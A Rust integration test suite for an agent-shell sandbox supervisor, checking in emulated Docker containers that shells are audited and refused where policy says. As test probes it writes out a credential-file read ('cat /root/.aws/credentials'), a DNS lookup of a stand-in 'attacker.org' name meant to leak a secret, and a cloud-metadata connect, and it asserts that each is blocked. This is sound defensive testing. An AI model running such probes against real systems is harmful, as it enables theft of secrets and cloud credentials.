//! agentsh where the SDKs run it: a container with Docker's default
//! capability set and seccomp refusals (`agentsh-container --profile
//! docker-default`), and one with every capability but `CAP_SYS_ADMIN`.
//!
//! The container is emulated as runc starts one (see
//! `tests/src/bin/agentsh-container.rs`): the filter refusing `kcmp`,
//! `pidfd_getfd` and `process_madvise` is loaded first, then the
//! capabilities are cut. Inside, `agentsh entrypoint` starts the server with
//! an SDK-style daemon as its command, as docs/sdk-cookbook.md says for
//! Daytona, Tensorlake and Runloop, and the daemon spawns the SDKs' shells as
//! root or as an ordinary user. Each scenario checks that the shells are
//! supervised for real: a nested `curl` is refused (126) and audited, what
//! the policy allows runs, threaded spawners (which the race guard watches)
//! work, and the server's own view says what it lacked.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used)]

use agentsh_tests::ns::Namespace;
use agentsh_tests::sandbox::{AGENT_DEFAULT, AGENT_OBSERVE, NOBODY, SERVER_BASE, WORKSPACE};
use agentsh_tests::sdk::{self, Finished, Spawn, Supervisor};
use agentsh_tests::server::{bin, execs_of, require_root, ServerFiles};
use serde_json::Value;
use std::path::Path;
use std::time::{Duration, Instant};

/// A container of `profile` with the server and an SDK daemon (as `uid`)
/// started the cookbook's way: `agentsh entrypoint -- DAEMON`.
struct Container {
    sup: Supervisor,
    files: ServerFiles,
    ns: Namespace,
}

impl Container {
    /// `yama`: on a host with Yama `ptrace_scope` 1 (emulated: see
    /// `agentsh-container --descendants-only`, which puts the server and
    /// what it starts in a domain of their own). Then the server is started
    /// the way `agentsh entrypoint` starts it, `agentsh server -- DAEMON`
    /// (the entrypoint itself would be inside the emulated domain too, and
    /// a daemon beside the server would not be told apart from one below it).
    fn start_on(profile: &str, yama: bool, uid: Option<u32>) -> Container {
        Container::start_with(profile, yama, uid, AGENT_DEFAULT)
    }

    /// [`Container::start_on`] with the server on `policy`.
    fn start_with(profile: &str, yama: bool, uid: Option<u32>, policy: &str) -> Container {
        Container::start_config(profile, yama, uid, policy, "")
    }

    /// Like [`Container::start_with`], with `extra` in the server's config.
    fn start_config(
        profile: &str,
        yama: bool,
        uid: Option<u32>,
        policy: &str,
        extra: &str,
    ) -> Container {
        // /root overlaid: a credential store planted in root's home.
        let ns = Namespace::with_overlays(&["/root"]);
        ns.mount_scratch("/srv", WORKSPACE);
        let aws = ns.path("/root/.aws");
        std::fs::create_dir_all(&aws).expect("create /root/.aws");
        std::fs::write(aws.join("credentials"), AWS_SECRET).expect("plant a credential");
        let files = ServerFiles::write(
            Path::new(SERVER_BASE),
            Some(policy),
            &format!("workspace: {WORKSPACE}\n{extra}"),
        );
        ns.install_shim(true);
        ns.configure(&files.url, "on");
        let ws = ns.path(WORKSPACE);
        std::fs::create_dir_all(&ws).expect("create the workspace");
        if let Some(uid) = uid {
            std::os::unix::fs::chown(&ws, Some(uid), Some(uid)).expect("chown the workspace");
        }
        let mut cmd = ns.command_in(bin("agentsh-container"), WORKSPACE);
        cmd.args(["--profile", profile]);
        if yama {
            cmd.arg("--descendants-only");
        }
        cmd.arg("--")
            .arg(bin("agentsh"))
            .arg(if yama { "server" } else { "entrypoint" })
            .arg("--config")
            .arg(&files.config)
            .arg("--");
        if let Some(uid) = uid {
            cmd.arg("/usr/bin/setpriv")
                .arg(format!("--reuid={uid}"))
                .arg(format!("--regid={uid}"))
                .args(["--clear-groups", "--"]);
        }
        cmd.arg(bin("sdk-supervisor"));
        let sup = Supervisor::start_command(cmd);
        Container { sup, files, ns }
    }

    fn run(&mut self, s: &Spawn) -> Finished {
        let r = self.sup.spawn(s);
        self.sup.wait(r, Duration::from_secs(60))
    }

    /// The exec events of `base` written so far, waiting until there is one
    /// (an allowed exec's event is written just after its answer, and the
    /// file is read from outside).
    fn execs_of(&self, base: &str) -> Vec<Value> {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let events = self.files.events();
            let found: Vec<Value> = execs_of(&events, base).into_iter().cloned().collect();
            if !found.is_empty() || Instant::now() >= deadline {
                return found;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// Writes `text` to `name` in the workspace, owned by `uid`.
    fn workspace_file(&self, name: &str, text: &str, uid: Option<u32>) {
        let p = self.ns.path(&format!("{WORKSPACE}/{name}"));
        std::fs::write(&p, text).expect("write into the workspace");
        if let Some(uid) = uid {
            std::os::unix::fs::chown(&p, Some(uid), Some(uid)).expect("chown");
        }
    }
}

/// The credential planted in `/root/.aws/credentials`.
const AWS_SECRET: &str = "aws_secret_access_key=aws-docker-3b1f";

/// Eight threads each run a program through `subprocess` (vfork from a
/// threaded process).
const THREADS_PY: &str = "import subprocess, threading
def go():
    subprocess.run(['/bin/true'], check=True)
ts = [threading.Thread(target=go) for _ in range(8)]
[t.start() for t in ts]
[t.join() for t in ts]
print('threads ok')
";

/// The SDKs' shells in `profile`, as `uid`: supervised, refused where the
/// policy says, audited.
fn sdk_shells_are_supervised(profile: &str, uid: Option<u32>) {
    sdk_shells_are_supervised_on(profile, false, uid);
}

/// `yama`: see [`Container::start_on`].
fn sdk_shells_are_supervised_on(profile: &str, yama: bool, uid: Option<u32>) {
    let mut c = Container::start_on(profile, yama, uid);
    // Tensorlake's `sh -lc` with a nested su: refused, audited.
    let f = c.run(&sdk::tensorlake("true; su -c true root"));
    assert_eq!(f.code, Some(126), "{profile} {uid:?}: {f:?}");
    let curl = c.execs_of("su");
    assert!(
        curl.iter()
            .any(|e| e["decision"] == "deny" && e["depth"].as_u64() == Some(1)),
        "{profile} {uid:?}: no denied su event: {curl:?}"
    );
    // E2B's wrapper (bash -l -c through the oom line): allowed work runs.
    let f = c.run(&sdk::e2b("id -u; ls / >/dev/null && echo listed"));
    assert_eq!(f.code, Some(0), "{profile} {uid:?}: {f:?}");
    let want_uid = uid.unwrap_or(0).to_string();
    assert!(
        f.stdout.contains(&want_uid) && f.stdout.contains("listed"),
        "{f:?}"
    );
    let ls = c.execs_of("ls");
    assert!(
        ls.iter().any(|e| e["decision"] == "allow"),
        "{profile} {uid:?}: ls not audited: {ls:?}"
    );
    // Threaded spawners: their execs share memory with running threads, so
    // the race guard watches them (ptrace, as the tree's owner; kcmp is
    // refused in docker-default).
    c.workspace_file("threads.py", THREADS_PY, uid);
    let f = c.run(&Spawn::argv(&["/bin/sh", "-c", "python3 threads.py"]));
    assert_eq!(f.code, Some(0), "{profile} {uid:?}: {f:?}");
    assert!(f.stdout.contains("threads ok"), "{f:?}");
    // The shipped credential_files: root's store is unreadable, by the
    // Landlock carve where no namespace can be had (docker-default refuses
    // user namespaces; root without CAP_SYS_ADMIN gets none), by a user
    // namespace for an ordinary user where the container allows one.
    let f = c.run(&Spawn::argv(&[
        "/bin/sh",
        "-c",
        "cat /root/.aws/credentials; echo end",
    ]));
    assert!(
        f.stdout.contains("end") && !f.stdout.contains("aws-docker-3b1f"),
        "{profile} {uid:?}: {f:?}"
    );
    let events = c.files.events();
    let init = events
        .iter()
        .rev()
        .find(|e| e["type"] == "wrap_init")
        .expect("a wrap_init event");
    let mechanism = init["credential_files"]["mechanism"].as_str().unwrap_or("");
    let held = match (profile, uid) {
        ("no-sys-admin", Some(_)) => mechanism == "user namespace",
        _ => {
            mechanism.starts_with("no mount namespace")
                && mechanism.contains("credential stores: landlock")
        }
    };
    assert!(held, "{profile} {uid:?}: {init}");
}

#[test]
fn docker_default_root_shells_under_entrypoint_are_supervised() {
    if !require_root("docker_default_root_shells_under_entrypoint_are_supervised") {
        return;
    }
    sdk_shells_are_supervised("docker-default", None);
}

#[test]
fn docker_default_user_shells_under_entrypoint_are_supervised() {
    if !require_root("docker_default_user_shells_under_entrypoint_are_supervised") {
        return;
    }
    sdk_shells_are_supervised("docker-default", Some(NOBODY));
}

#[test]
fn no_sys_admin_root_shells_are_supervised() {
    if !require_root("no_sys_admin_root_shells_are_supervised") {
        return;
    }
    sdk_shells_are_supervised("no-sys-admin", None);
}

#[test]
fn no_sys_admin_user_shells_are_supervised() {
    if !require_root("no_sys_admin_user_shells_are_supervised") {
        return;
    }
    sdk_shells_are_supervised("no-sys-admin", Some(NOBODY));
}

/// What the emulation itself does, so a scenario above cannot pass on a
/// container that is not one.
#[cfg(target_arch = "x86_64")]
#[test]
fn the_docker_default_emulation_refuses_kcmp_and_cuts_capabilities() {
    if !require_root("the_docker_default_emulation_refuses_kcmp_and_cuts_capabilities") {
        return;
    }
    let py = "import ctypes,os\n\
              l=ctypes.CDLL(None,use_errno=True)\n\
              r=l.syscall(312,os.getpid(),os.getpid(),0,0,0)\n\
              print('kcmp',r,ctypes.get_errno())\n\
              print([l for l in open('/proc/self/status') if l.startswith('CapEff')][0].split()[1])";
    let out = std::process::Command::new(bin("agentsh-container"))
        .args([
            "--profile",
            "docker-default",
            "--",
            "/usr/bin/python3",
            "-c",
            py,
        ])
        .output()
        .expect("run the emulation");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("kcmp -1 1"),
        "kcmp not refused with EPERM: {text}"
    );
    assert!(
        text.contains("00000000a80425fb"),
        "not Docker's capability set: {text}"
    );
}

#[test]
fn docker_default_on_a_yama_host_root_shells_below_the_server_are_supervised() {
    if !require_root("docker_default_on_a_yama_host_root_shells_below_the_server_are_supervised") {
        return;
    }
    sdk_shells_are_supervised_on("docker-default", true, None);
}

#[test]
fn docker_default_on_a_yama_host_user_shells_below_the_server_are_supervised() {
    if !require_root("docker_default_on_a_yama_host_user_shells_below_the_server_are_supervised") {
        return;
    }
    sdk_shells_are_supervised_on("docker-default", true, Some(NOBODY));
}

/// Docker's defaults on a Yama host, the server started on its own (not
/// above the SDK's daemon): it can read no shell the daemon starts, so it
/// is never ready, `agentsh ready` says why at once, and every shell is
/// refused with the cause, never run unsupervised.
#[test]
fn docker_default_on_a_yama_host_a_server_not_above_the_daemon_refuses_and_says_why() {
    if !require_root(
        "docker_default_on_a_yama_host_a_server_not_above_the_daemon_refuses_and_says_why",
    ) {
        return;
    }
    let ns = Namespace::new();
    ns.mount_scratch("/srv", WORKSPACE);
    let files = ServerFiles::write(
        Path::new(SERVER_BASE),
        Some(AGENT_DEFAULT),
        &format!("workspace: {WORKSPACE}\n"),
    );
    ns.install_shim(true);
    ns.configure(&files.url, "on");
    std::fs::create_dir_all(ns.path(WORKSPACE)).expect("create the workspace");
    let log = std::fs::File::create(files.dir.path().join("server.log")).expect("server log");
    let mut server = ns
        .command(bin("agentsh-container"))
        .args(["--profile", "docker-default", "--descendants-only", "--"])
        .arg(bin("agentsh"))
        .args(["server", "--config"])
        .arg(&files.config)
        .stdin(std::process::Stdio::null())
        .stdout(log.try_clone().expect("dup"))
        .stderr(log)
        .spawn()
        .expect("start the server");
    struct Kill<'a>(&'a mut std::process::Child);
    impl Drop for Kill<'_> {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let _guard = Kill(&mut server);
    // `agentsh ready` fails with the cause as soon as the server answers.
    let deadline = Instant::now() + Duration::from_secs(60);
    let ready = loop {
        let out = ns
            .command(bin("agentsh"))
            .args(["ready", "--timeout", "60", "--config"])
            .arg(&files.config)
            .output()
            .expect("run agentsh ready");
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        if err.contains("cannot supervise") || Instant::now() >= deadline {
            break (out.status.code(), err);
        }
    };
    assert_eq!(ready.0, Some(1), "{}", ready.1);
    assert!(
        ready.1.contains("CAP_SYS_PTRACE") && ready.1.contains("agentsh entrypoint"),
        "{}",
        ready.1
    );
    // The SDK's daemon, started apart from the server (as by the container's
    // own entrypoint): each shell is refused (126) with the cause.
    let mut daemon = Supervisor::start_command({
        let mut c = ns.command_in(bin("agentsh-container"), WORKSPACE);
        c.args(["--profile", "docker-default", "--"])
            .arg(bin("sdk-supervisor"));
        c
    });
    let f = daemon.run(&sdk::tensorlake("touch /srv/ws/ran"));
    assert_eq!(f.code, Some(126), "{f:?}");
    assert!(
        f.stderr
            .contains("docs/troubleshooting.md#the-server-cannot-read-this-shell")
            && f.stderr.contains("agentsh entrypoint"),
        "{}",
        f.stderr
    );
    assert!(
        !ns.path("/srv/ws/ran").exists(),
        "a shell ran although it could not be supervised"
    );
    let f = daemon.run(&sdk::e2b("touch /srv/ws/ran"));
    assert_eq!(f.code, Some(126), "{f:?}");
    assert!(!ns.path("/srv/ws/ran").exists());
}

/// Egress in Docker's default container: the profile refuses
/// `pidfd_getfd`, so the supervisor cannot take a tree's socket; every
/// judged call is refused (fail closed), and the audit event names the cause.
#[test]
fn docker_default_egress_fails_closed_and_names_pidfd_getfd() {
    if !require_root("docker_default_egress_fails_closed_and_names_pidfd_getfd") {
        return;
    }
    let policy = format!(
        "{}\negress:\n  default: deny\n  rules:\n    - name: loopback\n      \
         cidrs: [127.0.0.0/8]\n      protocol: any\n      decision: allow\n",
        agentsh_tests::sandbox::agent_default_without_egress()
    );
    let sink = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
    let port = sink.local_addr().unwrap().port();
    for uid in [None, Some(NOBODY)] {
        let mut c = Container::start_with("docker-default", false, uid, &policy);
        let f = c.run(&Spawn::argv(&[
            "/bin/sh",
            "-c",
            &format!(
                "python3 -c 'import socket\ntry:\n    socket.socket(socket.AF_INET, \
                 socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.2\", {port})); print(\"SENT\")\n\
                 except PermissionError as e:\n    print(\"REFUSED\", e.errno)'"
            ),
        ]));
        assert!(f.stdout.contains("REFUSED 13"), "{uid:?}: {f:?}");
        let deadline = Instant::now() + Duration::from_secs(20);
        let event = loop {
            let found = c
                .files
                .events()
                .into_iter()
                .find(|e| e["type"] == "connect" && e["rule"] == "egress_unenforceable");
            if found.is_some() || Instant::now() >= deadline {
                break found;
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let event = event.unwrap_or_else(|| panic!("{uid:?}: no egress_unenforceable event"));
        assert!(
            event["message"]
                .as_str()
                .unwrap_or("")
                .contains("pidfd_getfd"),
            "{uid:?}: {event}"
        );
        // The tree was told: its wrap_init lists egress as not enforced.
        let init = c
            .files
            .events()
            .into_iter()
            .rev()
            .find(|e| e["type"] == "wrap_init")
            .unwrap_or_else(|| panic!("{uid:?}: no wrap_init event"));
        assert!(
            init["not_enforced"]
                .as_array()
                .is_some_and(|v| v.iter().any(|x| x
                    .as_str()
                    .is_some_and(|s| s.starts_with("egress (pidfd_getfd")))),
            "{uid:?}: {init}"
        );
    }
    // egress.compat: required: no shell starts where egress cannot hold.
    let mut c = Container::start_config(
        "docker-default",
        false,
        None,
        &policy,
        &format!(
            "egress:\n  compat: required\n  stub: \"{}:53\"\n",
            agentsh_tests::server::unique_loopback()
        ),
    );
    let f = c.run(&Spawn::argv(&["/bin/sh", "-c", "touch /srv/ws/ran"]));
    assert_eq!(f.code, Some(126), "{f:?}");
    assert!(
        f.stderr.contains("egress.compat is required")
            && f.stderr
                .contains(agentsh_proto::hint::EGRESS_NOT_ENFORCEABLE),
        "{f:?}"
    );
    assert!(!c.ns.path("/srv/ws/ran").exists(), "a shell ran");
}

/// agent-observe in Docker's default container: its egress allows every
/// destination, so there is nothing to enforce where `pidfd_getfd` is
/// refused: the datagram leaves, the destination is audited (from the
/// caller's memory, and said so), and no wrap_init says egress is missing.
#[test]
fn docker_default_observe_records_what_it_cannot_judge() {
    if !require_root("docker_default_observe_records_what_it_cannot_judge") {
        return;
    }
    let sink = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
    sink.set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    let port = sink.local_addr().unwrap().port();
    let mut c = Container::start_with("docker-default", false, None, AGENT_OBSERVE);
    let f = c.run(&Spawn::argv(&[
        "/bin/sh",
        "-c",
        &format!(
            "python3 -c 'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"seen\", (\"127.0.0.2\", {port})); print(\"SENT\")'"
        ),
    ]));
    assert!(f.stdout.contains("SENT"), "{f:?}");
    let mut buf = [0u8; 16];
    let (n, _) = sink.recv_from(&mut buf).expect("the datagram arrives");
    assert_eq!(&buf[..n], b"seen");
    let deadline = Instant::now() + Duration::from_secs(20);
    let event = loop {
        let found = c
            .files
            .events()
            .into_iter()
            .find(|e| e["type"] == "connect" && e["port"] == port);
        if found.is_some() || Instant::now() >= deadline {
            break found;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let event = event.expect("the destination is audited");
    assert_eq!(event["decision"], "allow", "{event}");
    assert!(
        event["message"]
            .as_str()
            .unwrap_or("")
            .contains("not judged here")
            && event["message"]
                .as_str()
                .unwrap_or("")
                .contains("pidfd_getfd"),
        "{event}"
    );
    let init = c
        .files
        .events()
        .into_iter()
        .rev()
        .find(|e| e["type"] == "wrap_init")
        .expect("a wrap_init event");
    assert!(
        !init["not_enforced"].to_string().contains("egress"),
        "{init}"
    );
}

/// The shipped agent-default in Docker's default container (`pidfd_getfd`
/// refused): a datagram that names its destination cannot be judged there.
/// By default it is refused (EACCES, `egress_unenforceable`); with
/// `egress.compat: allow_unjudged` (the operator's explicit choice) it is
/// sent as made and audited `rule: allow_unjudged`, and the wrap_init event
/// says egress is not enforced for it. Connects are judged either way: the
/// cloud metadata address stays refused; and DNS goes through the stub on a
/// socket of the supervisor's own (glibc's resolver connects its socket):
/// a registry's name resolves and its address is allowed, another name is
/// refused and never reaches the upstream.
#[test]
fn docker_default_agent_default_datagrams_follow_egress_compat() {
    if !require_root("docker_default_agent_default_datagrams_follow_egress_compat") {
        return;
    }
    let registry = std::net::Ipv4Addr::new(192, 0, 2, 7);
    let up = agentsh_tests::dns::Upstream::start(".org", registry);
    let sink = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
    sink.set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    let port = sink.local_addr().unwrap().port();
    let script = format!(
        "python3 -c 'import socket\nip = socket.getaddrinfo(\"pypi.org\", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]\nr = socket.socket()\nr.setblocking(False)\nprint(\"registry\", ip, r.connect_ex((ip, 443)))\ntry:\n    socket.getaddrinfo(\"s3cr3t.attacker.org\", 443)\n    print(\"leak resolved\")\nexcept socket.gaierror:\n    print(\"leak refused\")\ns = socket.socket()\ns.setblocking(False)\nprint(\"metadata\", s.connect_ex((\"169.254.169.254\", 80)))\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"unjudged\", (\"127.0.0.2\", {port})); print(\"SENT\")\nexcept PermissionError as e:\n    print(\"REFUSED\", e.errno)'"
    );
    let event_where = |c: &Container, want: &dyn Fn(&serde_json::Value) -> bool| {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let found = c.files.events().into_iter().find(|e| want(e));
            if found.is_some() || Instant::now() >= deadline {
                break found;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    for compat in ["best_effort", "allow_unjudged"] {
        let stub = agentsh_tests::server::unique_loopback();
        let mut c = Container::start_config(
            "docker-default",
            false,
            None,
            AGENT_DEFAULT,
            &format!(
                "egress:\n  compat: {compat}\n  stub: \"{stub}:53\"\n  resolvers: [\"127.0.0.1:{}\"]\n",
                up.port
            ),
        );
        std::fs::write(
            c.ns.path("/etc/resolv.conf"),
            format!("nameserver {stub}\noptions timeout:5 attempts:1\n"),
        )
        .unwrap();
        let f = c.run(&Spawn::argv(&["/bin/sh", "-c", &script]));
        assert!(f.stdout.contains("metadata 13"), "{compat}: {f:?}");
        let reg = f
            .stdout
            .lines()
            .find(|l| l.starts_with("registry "))
            .unwrap_or_else(|| panic!("{compat}: {f:?}"));
        assert!(
            reg.starts_with(&format!("registry {registry} ")) && !reg.ends_with(" 13"),
            "{compat}: {f:?}"
        );
        assert!(f.stdout.contains("leak refused"), "{compat}: {f:?}");
        let asked = up.asked();
        assert!(
            asked.iter().any(|n| n == "pypi.org") && !asked.iter().any(|n| n.contains("attacker")),
            "{compat}: {asked:?}"
        );
        let metadata = event_where(&c, &|e| e["type"] == "connect" && e["port"] == 80);
        let metadata = metadata.unwrap_or_else(|| panic!("{compat}: no metadata event"));
        assert_eq!(
            metadata["rule"], "no-cloud-metadata",
            "{compat}: {metadata}"
        );
        let init = event_where(&c, &|e| e["type"] == "wrap_init")
            .unwrap_or_else(|| panic!("{compat}: no wrap_init event"));
        let not_enforced = init["not_enforced"].to_string();
        if compat == "best_effort" {
            assert!(f.stdout.contains("REFUSED 13"), "{compat}: {f:?}");
            let e = event_where(&c, &|e| {
                e["type"] == "connect" && e["rule"] == "egress_unenforceable"
            });
            assert!(e.is_some(), "{compat}: no egress_unenforceable event");
            assert!(!not_enforced.contains("allow_unjudged"), "{init}");
        } else {
            assert!(f.stdout.contains("SENT"), "{compat}: {f:?}");
            let mut buf = [0u8; 16];
            let (n, _) = sink.recv_from(&mut buf).expect("the datagram arrives");
            assert_eq!(&buf[..n], b"unjudged");
            let e = event_where(&c, &|e| e["type"] == "connect" && e["port"] == port)
                .unwrap_or_else(|| panic!("{compat}: the destination is not audited"));
            assert!(
                e["rule"] == "allow_unjudged"
                    && e["decision"] == "allow"
                    && e["message"]
                        .as_str()
                        .is_some_and(|m| m.contains("egress.compat is allow_unjudged")),
                "{e}"
            );
            assert!(
                not_enforced.contains("runs unjudged (egress.compat: allow_unjudged)"),
                "{init}"
            );
        }
    }
}

/// Egress in Docker's default container, where `pidfd_getfd` is refused:
/// an allowed connect is made on a socket of the supervisor's own, put in
/// place of the tree's (`SECCOMP_IOCTL_NOTIF_ADDFD`), and carries the
/// tree's data both ways (TCP, and connected UDP); a denied one fails; a
/// Unix socket's connect runs, from a lone thread and from a threaded
/// process (its fd checked by inode); a send naming a destination is
/// refused (it needs the socket itself), audited with the cause.
#[test]
fn docker_default_egress_connects_on_a_socket_of_its_own() {
    if !require_root("docker_default_egress_connects_on_a_socket_of_its_own") {
        return;
    }
    // agent-observe: no TCP port floor of Landlock's in the way.
    let policy = format!(
        "{}\negress:\n  default: deny\n  rules:\n    - name: allowed\n      \
         cidrs: [127.0.0.2/32]\n      protocol: any\n      decision: allow\n",
        agentsh_tests::sandbox::agent_observe_without_egress()
    );
    let echo = std::net::TcpListener::bind("127.0.0.2:0").unwrap();
    let tport = echo.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut c in echo.incoming().flatten() {
            use std::io::{Read, Write};
            let mut b = [0u8; 64];
            if let Ok(n) = c.read(&mut b) {
                let _ = c.write_all(&b[..n]);
            }
        }
    });
    let sink = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
    sink.set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    let uport = sink.local_addr().unwrap().port();
    for uid in [None, Some(NOBODY)] {
        let mut c = Container::start_with("docker-default", false, uid, &policy);
        let py = [
            "import socket, threading, os".to_string(),
            format!("c = socket.create_connection(('127.0.0.2', {tport}), timeout=30)"),
            "c.sendall(b'ping'); print('TCP', c.recv(4).decode())".into(),
            // A non-blocking connect, then connect again: what the kernel says.
            "import select".into(),
            "n = socket.socket(); n.setblocking(False)".into(),
            format!("print('NB', n.connect_ex(('127.0.0.2', {tport})))"),
            "select.select([], [n], [], 30)".into(),
            format!("print('AGAIN', n.connect_ex(('127.0.0.2', {tport})))"),
            format!("print('DENIED', socket.socket().connect_ex(('127.0.0.1', {tport})))"),
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)".into(),
            format!("u.connect(('127.0.0.2', {uport})); u.send(b'udp-connected'); print('UDP')"),
            "try:".into(),
            format!("  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.2', {uport})); print('SENDTO sent')"),
            "except OSError as e: print('SENDTO', e.errno)".into(),
            "p = '/srv/ws/u.sock'".into(),
            "l = socket.socket(socket.AF_UNIX); l.bind(p); l.listen(4)".into(),
            "socket.socket(socket.AF_UNIX).connect(p); print('UNIX lone')".into(),
            "t = threading.Thread(target=lambda: __import__('time').sleep(5)); t.start()".into(),
            "socket.socket(socket.AF_UNIX).connect(p); print('UNIX threaded')".into(),
        ]
        .join("\n");
        let f = c.run(&Spawn::argv(&[
            "/bin/sh",
            "-c",
            &format!("python3 -c \"{py}\""),
        ]));
        let out = &f.stdout;
        assert!(
            out.contains("TCP ping"),
            "{uid:?}: {f:?}\n{:?}",
            c.files
                .events()
                .into_iter()
                .filter(|e| e["type"] == "connect")
                .collect::<Vec<_>>()
        );
        assert!(
            out.contains(&format!("DENIED {}", libc::EACCES)),
            "{uid:?}: {f:?}"
        );
        assert!(
            out.contains(&format!("AGAIN {}", libc::EISCONN)),
            "{uid:?}: {f:?}"
        );
        assert!(out.contains("UDP\n"), "{uid:?}: {f:?}");
        assert!(
            out.contains(&format!("SENDTO {}", libc::EACCES)),
            "{uid:?}: {f:?}"
        );
        assert!(
            out.contains("UNIX lone") && out.contains("UNIX threaded"),
            "{uid:?}: {f:?}"
        );
        let mut buf = [0u8; 32];
        let (n, _) = sink
            .recv_from(&mut buf)
            .expect("the connected datagram arrives");
        assert_eq!(
            &buf[..n],
            b"udp-connected",
            "{uid:?}: only the connected send arrived first"
        );
        let events = c.files.events();
        let connects: Vec<&Value> = events.iter().filter(|e| e["type"] == "connect").collect();
        assert!(
            connects
                .iter()
                .any(|e| e["ip"] == "127.0.0.2" && e["port"] == tport && e["decision"] == "allow"),
            "{uid:?}: {connects:?}"
        );
        assert!(
            connects
                .iter()
                .any(|e| e["ip"] == "127.0.0.1" && e["decision"] == "deny"),
            "{uid:?}: {connects:?}"
        );
        assert!(
            connects.iter().any(|e| e["rule"] == "egress_unenforceable"
                && e["syscall"] == "sendto"
                && e["message"].as_str().unwrap_or("").contains("pidfd_getfd")),
            "{uid:?}: {connects:?}"
        );
    }
}
